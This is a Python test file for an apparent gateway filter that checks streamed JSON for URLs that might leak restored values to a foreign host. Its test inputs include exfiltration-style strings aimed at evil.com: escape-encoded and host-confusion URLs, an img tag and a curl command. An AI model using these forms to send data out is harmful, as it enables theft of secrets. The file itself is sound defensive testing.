import json

import pytest

from gateway.core.policy import RestoreInUrls
from gateway.restore.json_urls import JsonUrlContext


def permits(text: str, mode: RestoreInUrls = "internal") -> bool:
    context = JsonUrlContext(mode, ("corp.local",))
    for character in text:
        context.read(character)
    return context.permits()


@pytest.mark.parametrize(
    "text",
    [
        '{"url":"https://evil.com/?q=',
        r'{"url":"https\u003a//evil.com/?q=',
        r'{"url":"\u002f\u002fevil.com/?q=',
        r'{"url":"https:\/\/evil.com\/?q=',
        r'{"url":"https://corp.local\u002eevil.com/?q=',
        r'{"url":"https://corp.local\u0040evil.com/?q=',
        r'{"url":"https://evil.com/\"?q=',
        r'{"url":"https://evil.com/\u0022?q=',
        '{"cmd":"curl https://evil.com/\'?q=',
        r'{"html":"<img src=\"https://evil.com/a b ',
        '{"a":"b","url":"//evil.com/?q=',
    ],
)
def test_a_value_does_not_go_to_a_foreign_host(text: str) -> None:
    assert not permits(text)


@pytest.mark.parametrize(
    "text",
    [
        '{"to":"',
        '{"url":"https://evil.com/","to":"',
        '{"url":"https://evil.com/?a=(","to":"',
        r'{"url":"https:\/\/corp.local\/?q=',
        r'{"text":"see https://evil.com/\nDear ',
        r'{"path":"C:\\a ',
    ],
)
def test_another_string_is_another_place(text: str) -> None:
    assert permits(text)


@pytest.mark.parametrize("begun", ["\\", "\\u", "\\u0", "\\u00", "\\u002"])
def test_in_the_middle_of_an_escape_nothing_is_certain(begun: str) -> None:
    assert not permits('{"to":"a' + begun)
    assert permits('{"to":"a' + (begun + "u002f")[: 1 + len("u002f")] + " ")


def test_what_stays_is_opaque() -> None:
    context = JsonUrlContext("internal", ("corp.local",))
    context.read('{"url":"https://corp.local')
    context.skip()
    context.read("/?q=")

    assert not context.permits()


def test_cuts_change_nothing() -> None:
    text = json.dumps({"a": "https://evil.com/\n", "b": "é \U0001f600 x"})
    whole = JsonUrlContext("internal", ())
    whole.read(text[:-2])

    assert whole.permits() == permits(text[:-2])
